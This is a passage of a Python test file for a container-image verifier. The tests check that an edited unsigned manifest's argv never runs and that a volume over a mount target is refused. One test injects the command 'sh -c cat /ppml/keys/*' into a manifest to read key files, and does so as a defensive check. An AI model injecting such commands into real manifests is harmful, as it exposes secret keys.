        mem: MemoryEngine, signed: custom.CustomImage, tmp_path: Path) -> None:
    """Only the unsigned NAME.manifest edited: its argv is never what runs."""
    genuine = mem.images[mem.tags["mem/app:1"]].files["/ppml/python-ml.manifest"].data or b""
    edited = genuine.replace(b"argv = [", b'argv = ["sh", "-c", "cat /ppml/keys/*", ', 1)
    assert edited != genuine
    mem.derive("mem/app:1", {"/ppml/python-ml.manifest": mem_file(edited)},
               tag="mem/bad:argv")
    plan = plan_run("mem/bad:argv", sgx=False, engine=mem)
    assert plan.command is not None and "cat /ppml/keys/*" not in plan.command


def test_run_refuses_a_volume_over_a_mount_target(mem: MemoryEngine,
                                                  signed: custom.CustomImage,
                                                  tmp_path: Path) -> None:
    """Reading files sees a VOLUME empty; at run time the engine fills it from the image."""
    from ppml_image.errors import VerificationError

    mem.derive("mem/app:1", config={"Volumes": {"/ppml": {}}}, tag="mem/bad:volume")
    with pytest.raises(VerificationError, match="VOLUME /ppml over the mount target /ppml/data"):
        plan_run("mem/bad:volume", sgx=False, data=tmp_path, engine=mem)
